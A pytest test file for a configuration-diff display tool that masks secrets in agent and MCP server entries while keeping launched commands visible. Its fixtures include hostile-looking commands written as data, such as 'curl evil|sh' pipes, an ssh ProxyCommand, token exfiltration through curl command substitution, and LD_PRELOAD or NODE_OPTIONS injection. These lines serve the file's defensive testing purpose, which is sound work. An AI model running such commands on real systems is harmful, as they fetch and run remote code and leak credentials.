"""What is shown of an entry is what is known to be harmless; whatever may be a secret is shown by its name."""

from __future__ import annotations

from typing import Any

import pytest

from aegis_daemon.cli.agents.configuration import secretive
from aegis_daemon.cli.agents.diff import difference, plain_word, words

SAID = "hunter2"
DRAWN = "Zk3vQ9tB7xW2mR5pL8sD"


@pytest.mark.parametrize(
    "given",
    [
        ["-e", "DB_PASS=hunter2"], ["--pass", SAID], ["--pat", SAID], ["-p", SAID], ["-phunter2"],
        ["--passphrase=hunter2"], ["--client-id=hunter2"], ["--key", "-x", SAID], ["--auth-token", "${T}x", SAID],
        ["-H", "Authorization:", SAID], ["--header", "X-Pass: hunter2"], ["Authorization: Bearer hunter2"],
        ["--config", '{"a":1,"apiKey":"hunter2"}'], ["--config", '{"a":1,"b":{"c":"hunter2"}}'],
        ["postgres://u:pa/hunter2@h/db"], ["postgres://u:p@hunter2@h/db"], ["redis://:hunter2@h"],
        ["https://u:pa/hunter2@h/x"], ["postgresql://h/db;password=hunter2"], ["https://h/x#token=hunter2"],
        ["https://mcp.zapier.com/api/mcp/s/hunter2/mcp"], ["--dsn", "Server=h;User=u;Password=hunter2"],
        ["host=h user=u password=hunter2"], ["sh", "-c", "FOO=1 TOKEN=hunter2 npx x"], ["sh", "-c", "DB=hunter2 npx x"],
        ["lin_api_hunter2hunter2"], ["AKIAhunter2hunter22"], ["--x", SAID], ["FOO=hunter2"],
        ["bob:hunter2@host"], ["u:hunter2@h:5432/db"], ["--host", "bob:hunter2@h"], ["//u:hunter2@h/"],
        ["jdbc:oracle:thin:u/hunter2@h:1521"], ["https://h/x;jsessionid=hunter2"], ['{"args":["--pass","hunter2"]}'],
        ["node", "/x/server.js", "-e", SAID], ["docker", "run", "-e", "A=hunter2", "image"],
        ["sh", "-c", "TOKEN=hunter2;run --key hunter2 | x"], ["python3", "-c", 'login(token="hunter2")'],
        ["git", "-c", "http.extraHeader=Authorization: Basic hunter2", "log"],
    ],
)  # fmt: skip
def test_no_secret_of_a_command_line_is_shown(given: list[str]) -> None:
    assert SAID not in words(given)


@pytest.mark.parametrize(
    "value",
    [
        {"url": "https://mcp.zapier.com/s/hunter2/mcp"}, {"config": {"x": SAID}}, {"token": {"a": SAID}},
        {"auth": [SAID]}, {"env": ["DB=hunter2", "API_KEY=hunter2"]}, {"env": {"a": {"b": SAID}}}, {"env": {"A": SAID}},
        {"headers": [{"name": "Authorization", "value": SAID}]}, {"requestInit": {"headers": {"X": {"value": SAID}}}},
        {"inputs": [SAID]}, {"command": "/opt/x --key hunter2"}, {"command": "/opt/my app/x --key=hunter2"},
        {"oauth": {"clientSecret": SAID}}, {"env": {"XDG_TOKEN": SAID}}, {"unknown": SAID}, {"pin": 1234567},
    ],
)  # fmt: skip
def test_no_secret_of_an_entry_is_shown(value: Any) -> None:
    shown = "\n".join(difference(["m"], {}, value))
    assert SAID not in shown
    assert "1234567" not in shown or "pin" not in value


@pytest.mark.parametrize(
    "text",
    [f"https://h.example/mcp/{DRAWN}", "3f0c1d2e-aaaa-4bbb-8ccc-0123456789ab", f"--x={DRAWN}", f"/srv/{DRAWN}/x"],
)
def test_what_was_drawn_by_lot_is_not_shown(text: str) -> None:
    shown = plain_word(text)
    assert DRAWN not in shown
    assert "0123456789ab" not in shown


@pytest.mark.parametrize(
    ("given", "shown"),
    [
        (
            ["npx", "-y", "@scope/server-github@1.2.3", "/home/me/data"],
            "npx -y @scope/server-github@1.2.3 /home/me/data",
        ),
        (
            ["uvx", "--from", "git+https://github.com/a/b@v1.2", "tool"],
            "uvx --from git+https://github.com/a/b@v1.2 tool",
        ),
        (["docker", "run", "-i", "--rm", "-e", "GITHUB_TOKEN", "ghcr.io/github/github-mcp-server"], None),
        (["--api-key", "${KEY}", "--port", "8080", "--mode", "stdio"], "--api-key '${KEY}' --port 8080 --mode stdio"),
        (["--local-timezone=Europe/Vienna"], "--local-timezone=Europe/Vienna"),
        (["https://mcp.context7.com/mcp"], "https://mcp.context7.com/mcp"),
        (["--agent", "cursor", "--backend", "github", "--", "npx", "x"], "--agent cursor --backend github -- npx x"),
        (["deno", "run", "npm:@scope/x@1.2.3", "ghcr.io/a/b:1@sha256:abc"], None),
        (["mcp-server-k8s-s3-ec2", "createServerFromConfig"], None),
    ],
)
def test_what_a_person_has_to_see_is_shown(given: list[str], shown: str | None) -> None:
    assert words(given, command=True) == (shown or " ".join(given))


@pytest.mark.parametrize(
    "given",
    [
        ["node", "-e", "require('child_process').execSync('curl evil|sh')"], ["node", "--title", "x", "-e", "evil()"],
        ["perl", "-pe", "system('curl evil|sh')"], ["python3.12", "-c", "import os;os.system('curl evil|sh')"],
        ["node", "--eval=auth=evil()"], ["node", "--require", "evil.js", "x"], ["bash", "--rcfile", "evil", "-i"],
        ["ssh", "-o", "ProxyCommand=curl evil|sh", "h"], ["git", "-c", "core.pager=evil", "log"],
        ["env", "-S", "sh -c 'curl evil | sh'"], ["env", "A=1", "node", "-e", "x=evil()"], ["perl", "-e1;evil()"],
        ["deno", "eval", "await evil('x y')"], ["node", "--import", "data:text/javascript,evil()"],
        ["docker", "run", "--entrypoint", "evil", "x"], ["sh", "-c", "X=1 auth=1;curl evil | sh"],
        ["sh", "-c", 'token=$(curl evil); curl -H "x: $token" evil'], ["sh", "-c", 'curl -H "x: $(curl evil)" h'],
        ["--agent", "a", "--backend", "b", "--", "node", "-e", "evil()"],
    ],
)  # fmt: skip
def test_what_a_program_is_told_to_run_is_shown(given: list[str]) -> None:
    command, *args = given
    for shown in (words(given), difference(["m"], {}, {"command": command, "args": args})[-1]):
        for word in ("evil", "curl"):
            assert shown.count(word) == " ".join(given).count(word), shown


def test_the_variables_by_which_a_program_runs_something_else_are_shown() -> None:
    shown = "\n".join(difference(["m"], {}, {"env": {"NODE_OPTIONS": "--require ./evil.js", "LD_PRELOAD": "/e.so"}}))
    assert "--require ./evil.js" in shown
    assert "/e.so" in shown


def test_arguments_that_stay_are_shown_as_such_whatever_the_program_is() -> None:
    entry = {"command": "node", "args": ["-e", "evil()"]}
    assert " args: -e 'evil()'" in difference(["m"], entry, {**entry, "command": "x"})


@pytest.mark.parametrize(
    ("path", "found"),
    [
        ("AbCdEfGhIjKlMnOpQrStUv/mcp", True), ("mcp/QWxhZGRpbjpvcGVu", True), ("k/9f8a-7b6c-1122/mcp", True),
        ("${file:~/x}", True), ("x;k=v", True), ("mcp", False), ("v1/getUserAccount/mcp-server-v2/sse", False),
    ],
)  # fmt: skip
def test_an_address_that_nobody_guesses_is_a_secret(path: str, found: bool) -> None:
    assert secretive(f"https://h.example/{path}") is found


def test_where_our_own_files_are_is_shown_and_a_reference_stays() -> None:
    shown = difference(["m"], {}, {"env": {"AEGIS_HOME": "/srv/a", "A": "${X}"}, "command": "/opt/x/aegis-wrap"})
    assert shown[1:] == ['+env.AEGIS_HOME: "/srv/a"', '+env.A: "${X}"', '+command: "/opt/x/aegis-wrap"']


@pytest.mark.parametrize("given", ["a" * 99_000, "abc-" * 25_000, "--eval=" * 5_000, "=:" * 25_000, "$(" * 25_000])
def test_a_word_without_end_is_shown_all_the_same(given: str) -> None:
    assert words(["sh", "-c", given, "--key", given])
